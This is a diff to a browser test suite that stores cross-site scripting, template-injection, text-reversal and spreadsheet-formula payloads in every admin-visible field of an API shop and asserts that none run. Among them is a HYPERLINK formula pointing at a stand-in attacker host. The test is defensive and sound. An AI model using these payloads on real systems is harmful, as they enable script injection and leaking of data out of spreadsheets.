@@ -6,20 +6,21 @@ import { test } from "node:test";
 import { ask, openPage } from "./browser.mjs";
 import { PEOPLE, Shop } from "./shop.mjs";
 
-const FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)';
 const TURNED = "\u202egnp.exe";
 
-// Markup that runs where it is taken for markup, template expressions, and what spreadsheets take for a formula.
-const written = (place) => `${FORMULA}"'><img src=x onerror="window.hit='${place}'"><script>window.hit='${place}'</script>{{place}}$t(x)`;
+// A formula to a spreadsheet, markup that runs where it is taken for markup, and a template's expressions.
+const written = (place) => `=HYPERLINK("//attacker.example")"'><img src=x onerror="hit='${place}'"><script>hit=1</script>{{place}}$t(x)`;
 // The same, and from there on written backwards.
 const turned = (place) => `${written(place)}${TURNED}`;
-// Where spaces are not taken.
-const joined = (place) => `<img/src=x/onerror=window.hit='${place}'>${TURNED}`;
+// Where neither spaces are taken nor what turns the direction.
+const joined = (place) => `<img/src=x/onerror=hit='${place}'>`;
+// What looks like a secret is taken out of an upstream's words, which leaves these.
+const SAID = "<img src=x> <b>so</b> \u202esdrawkcab";
 
 test("what anybody has written is read by an administrator and never run", async (t) => {
     const shop = await Shop.start(t);
     const stored = await store(shop);
-    const page = await openPage(t, shop.site, { userAgent: `Mozilla/5.0 <script>window.hit='agent'</script>` });
+    const page = await openPage(t, shop.site, { userAgent: `Mozilla/5.0 <script>hit='agent'</script>` });
     const breaches = [];
     await page.context().exposeBinding("noteBreach", (_, what) => void breaches.push(what));
     await page.addInitScript(() => {
@@ -37,7 +38,7 @@ test("what anybody has written is read by an administrator and never run", async
         await page.goto(path);
         await page.locator("main h1, main h2").first().waitFor();
         await act?.(page);
-        for (const text of texts) await page.getByText(text, { exact: false }).first().waitFor({ state: "attached" }).catch(() => assert.fail(`${path} does not show ${text}`));
+        for (const text of texts) await page.getByText(text, { exact: false }).first().waitFor({ state: "attached", timeout: 10_000 }).catch(() => assert.fail(`${path} does not show ${text}`));
         assert.equal(await page.evaluate(() => window.hit), undefined, `a script has run on ${path}`);
         assert.deepEqual(await page.evaluate(findReordered), [], `something is reordered on ${path}`);
         assert.equal(await page.locator("img[src=x]").count(), 0, `markup of others is markup on ${path}`);
@@ -56,7 +57,7 @@ test("what anybody has written is read by an administrator and never run", async
 // Writes into everything that an administrator is shown; gives the ids of what was made.
 async function store(shop) {
     const { upstream, people } = shop;
-    const person = await shop.ask("POST", "/api/admin/users", { email: "mallory'=1+1@example.com", display_name: written("person"), role: "user", password: "correct horse battery" });
+    const person = await shop.ask("POST", "/api/admin/users", { email: "=1+1'mallory@example.com", display_name: written("person"), role: "user", password: "correct horse battery" });
     await shop.ask("PATCH", `/api/admin/users/${person.id}`, { channel_group: "<b>group</b>" }).catch(() => undefined);
     await shop.credit(person.id, "5", { note: turned("note"), reason_code: "goodwill" });
     const key = await shop.addKey(person.id, { name: written("key") });
@@ -66,11 +67,11 @@ async function store(shop) {
     const model = await shop.addModel({ name: joined("model"), display_name: turned("model"), price: { input_per_million: "1", output_per_million: "2" } });
     const group = await shop.ask("POST", "/api/admin/model-groups", { name: written("group"), note: turned("group"), models: [joined("model")] });
     const channel = await shop.addChannel({ name: turned("channel"), models: [{ name: joined("model"), upstream: joined("upstream") }] });
-    await upstream.fail(joined("upstream"), 400, turned("upstream"));
+    await upstream.fail(joined("upstream"), 500, SAID);
     const call = async (secret) => {
         const answer = await fetch(`${shop.url}/v1/chat/completions`, {
             method: "POST",
-            headers: { authorization: `Bearer ${secret}`, "content-type": "application/json", "user-agent": "<script>window.hit='agent'</script>" },
+            headers: { authorization: `Bearer ${secret}`, "content-type": "application/json", "user-agent": "<script>hit='agent'</script>" },
             body: JSON.stringify({ model: joined("model"), user: turned("end user"), metadata: { tag: turned("tag") }, messages: [{ role: "user", content: turned("prompt") }] }),
         });
         const id = answer.headers.get("x-request-id");
@@ -82,8 +83,8 @@ async function store(shop) {
     for (let more = 0; more < 3; more += 1) await call(key.secret);
     await shop.ask("POST", `/api/admin/channels/${channel}/test`, {});
     await shop.ask("POST", "/api/admin/notices", { title: { en: turned("title") }, text: { en: turned("text") }, level: "warning" });
-    await shop.ask("POST", "/api/admin/invites", { note: turned("invite") });
-    await shop.ask("PATCH", "/api/admin/settings", { values: { "site.name": written("site") } });
+    await shop.ask("PATCH", "/api/admin/settings", { values: { "site.name": written("site"), "auth.registration": "invite" } });
+    await shop.ask("POST", "/api/admin/invites", { email: "=1+1'invited@example.com" });
     await shop.call(shop.key.secret, { model: joined("unknown") });
     return { person: person.id, model, group: group.id, channel, request, ownRequest };
 }
@@ -95,25 +96,25 @@ function screens({ person, model, channel, request, ownRequest }) {
     return [
         ["/console", [turned("channel")]],
         ["/console/requests", [joined("model"), turned("channel")]],
-        [`/console/requests/${request}`, [turned("upstream"), "<script>window.hit='agent'</script>"]],
+        [`/console/requests/${request}`, [SAID, "<script>hit='agent'</script>"]],
         ["/console/errors", [joined("model")]],
         ["/console/channels", [turned("channel")]],
         [`/console/channels/${channel}`, [joined("model"), joined("upstream")]],
-        [`/console/channels/${channel}`, [turned("upstream")], pressed("Run test")],
+        [`/console/channels/${channel}`, [SAID], pressed("Run test")],
         [`/console/channels/${channel}`, [turned("channel")], pressed("Delete channel")],
         [`/console/channels/${channel}`, [turned("channel")], pressed("Disable")],
         ["/console/models", [turned("model"), joined("model")]],
         [`/console/models/${model}`, [joined("model")]],
         [`/console/models/${model}?tab=history`, [turned("model")]],
         ["/console/model-groups", [written("group")]],
-        ["/console/people", [written("person")]],
+        ["/console/people", [written("person"), "=1+1'mallory@example.com"]],
         [`/console/people/${person}`, [written("person"), written("key")]],
         [`/console/people/${person}`, [written("person")], pressed("Adjust")],
-        ["/console/invitations", [turned("invite")]],
+        ["/console/invitations", ["=1+1'invited@example.com"]],
         ["/console/revenue", []],
         ["/console/billing", []],
         ["/console/notices", [turned("title")]],
-        ["/console/settings", [written("site")]],
+        ["/console/settings", ["site.name"]],
         ["/console/roles", []],
         ["/console/audit-log", [written("person")]],
         ["/console/audit-log?action=balance.adjust", [turned("note")], (page) => page.getByRole("main").getByRole("row").nth(1).getByRole("button").click()],
